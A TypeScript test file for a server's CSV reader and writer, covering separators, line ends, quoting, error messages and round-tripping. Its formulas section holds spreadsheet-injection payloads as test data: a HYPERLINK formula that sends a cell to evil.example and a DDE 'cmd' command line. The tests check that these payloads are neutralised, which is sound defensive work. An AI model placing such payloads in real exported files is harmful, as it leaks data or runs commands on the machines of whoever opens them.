import fc from 'fast-check';
import {describe, expect, test} from 'vitest';
import {
  CsvError,
  csvLine,
  type CsvRecord,
  guardFormula,
  readCsv,
  unguardFormula,
} from '../../../server/bulk/csv.ts';

/** What is read when the file comes in pieces of this many bytes. */
async function read(text: string | Uint8Array, pieceBytes = 1_000): Promise<CsvRecord[]> {
  const bytes = typeof text === 'string' ? new TextEncoder().encode(text) : text;
  const records: CsvRecord[] = [];
  for await (const record of readCsv(piecesOf(bytes, pieceBytes))) records.push(record);
  return records;
}

async function* piecesOf(bytes: Uint8Array, pieceBytes: number) {
  for (let at = 0; at < bytes.length; at += pieceBytes) yield bytes.slice(at, at + pieceBytes);
}

const cellsOf = async (text: string) => (await read(text)).map(({cells}) => cells);

describe('reading', () => {
  test.each<[string, string, string[][]]>([
    [
      'commas',
      'a,b\n1,2\n',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'semicolons',
      'a;b\n1,5;2\n',
      [
        ['a', 'b'],
        ['1,5', '2'],
      ],
    ],
    [
      'semicolons inside of a file with commas',
      'a,b\n1;2,3\n',
      [
        ['a', 'b'],
        ['1;2', '3'],
      ],
    ],
    ['one column', 'a\n1;2,3\n'.replace(',', '.'), [['a'], ['1;2.3']]],
    [
      'no line end at the end',
      'a,b\n1,2',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'CRLF',
      'a,b\r\n1,2\r\n',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'CR',
      'a,b\r1,2\r',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'mixed line ends',
      'a,b\r\n1,2\n3,4\r5,6',
      [
        ['a', 'b'],
        ['1', '2'],
        ['3', '4'],
        ['5', '6'],
      ],
    ],
    [
      'a byte-order mark',
      '\ufeffa,b\n1,2',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'empty cells',
      'a,b,c\n,,\n1,,',
      [
        ['a', 'b', 'c'],
        ['', '', ''],
        ['1', '', ''],
      ],
    ],
    [
      'empty lines',
      '\na,b\n\n\r\n1,2\n\n',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'quotes',
      '"a","b;c"\n"1,5","say ""hi"""',
      [
        ['a', 'b;c'],
        ['1,5', 'say "hi"'],
      ],
    ],
    ['quotes around nothing', 'a\n""\n', [['a'], ['']]],
    [
      'line breaks in quotes',
      'a,b\n"1\n2","3\r\n4"\n',
      [
        ['a', 'b'],
        ['1\n2', '3\r\n4'],
      ],
    ],
    [
      'a header in quotes with a semicolon in it',
      '"a;b;c",d\n1,2',
      [
        ['a;b;c', 'd'],
        ['1', '2'],
      ],
    ],
    ['letters of all alphabets', 'a\nñ漢😀\n', [['a'], ['ñ漢😀']]],
    ['nothing', '', []],
  ])('understands %s, however it is cut', async (_what, text, expected) => {
    for (const pieceBytes of [1, 2, 3, 1_000]) {
      expect((await read(text, pieceBytes)).map(({cells}) => cells)).toEqual(expected);
    }
  });

  test('whatever is written is read again', async () => {
    const cell = fc.oneof(fc.string(), fc.stringMatching(/^[",;\r\n' =]{0,6}$/));
    const row = fc.array(cell, {minLength: 2, maxLength: 5});
    await fc.assert(
      fc.asyncProperty(
        fc.array(row, {minLength: 1, maxLength: 5}),
        fc.integer({min: 1, max: 9}),
        async (rows, size) => {
          // A first line of our own, since the separator is judged by it.
          const text = csvLine(['a', 'b']) + rows.map(csvLine).join('');
          expect((await read(text, size)).map(({cells}) => cells)).toEqual([['a', 'b'], ...rows]);
        },
      ),
    );
  });

  test('a row begins on the line that an editor shows', async () => {
    const text = 'a,b\r\n\r\n"1\n\n\r\n",2\r\n3,"\r"\r\n5,6';
    for (const size of [1, 1_000]) {
      expect((await read(text, size)).map(({line}) => line)).toEqual([1, 3, 7, 9]);
    }
  });

  test.each<[string, number, RegExp]>([
    ['a,b\n1,2\n3,"4', 2, /^Line 3: a quote that opens .* never closed/],
    ['a,b\n1,2\n3,4"5\n6,7', 2, /^Line 3: there is a quote in the middle of a cell/],
    ['a,b\n1,2\n"3\n",4\n"5"6,7\n', 3, /^Line 5: there is text behind the quote/],
    [`a,b\n1,2\n"${'x'.repeat(140_000)}",2`, 2, /^Line 3: the row is longer than/],
    ['x'.repeat(300_000), 0, /^Line 1: the row is longer than/],
  ])('%.30j stops where it is wrong, after %i rows that are right', async (text, right, message) => {
    const records: CsvRecord[] = [];
    const reading = (async () => {
      const pieces = piecesOf(new TextEncoder().encode(text), 64_000);
      for await (const record of readCsv(pieces)) records.push(record);
    })();
    await expect(reading).rejects.toThrow(CsvError);
    await expect(reading).rejects.toThrow(message);
    expect(records).toHaveLength(right);
  });

  test('bytes that are not UTF-8 can be told by what is read', async () => {
    const [, row] = await read(Uint8Array.from([...Buffer.from('a\nPe'), 0xf1, ...Buffer.from('a\n')]));
    expect(row?.cells).toEqual(['Pe\ufffda']);
  });
});

describe('formulas', () => {
  const payloads = [
    '=HYPERLINK("https://evil.example/?"&A1;"click")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd',
    '@SUM(1+9)*cmd',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '+34600111222',
  ];

  test.each(payloads)('%j does not begin as one, and comes back as it was', (payload) => {
    expect(guardFormula(payload)).toBe(`'${payload}`);
    expect(unguardFormula(guardFormula(payload))).toBe(payload);
  });

  test.each(['Ana', "'Twas", "'quoted'", '', "'", '1=2', ' x'])('%j stays as it is', (cell) => {
    expect(guardFormula(cell)).toBe(cell);
    expect(unguardFormula(cell)).toBe(cell);
  });

  test('an apostrophe that was there before a formula stays too', () => {
    for (const cell of ["'=1", "''=1", "'+34"]) expect(unguardFormula(guardFormula(cell))).toBe(cell);
    expect(unguardFormula("'+34600111222")).toBe('+34600111222');
  });
});

test('cells are quoted only where they must be', async () => {
  expect(csvLine(['plain', 'a b', 'a,b', 'a;b', 'say "x"', 'two\nlines', ' x', ''])).toBe(
    'plain,a b,"a,b","a;b","say ""x""","two\nlines"," x",\r\n',
  );
  expect(await cellsOf(csvLine(['a', '']))).toEqual([['a', '']]);
});
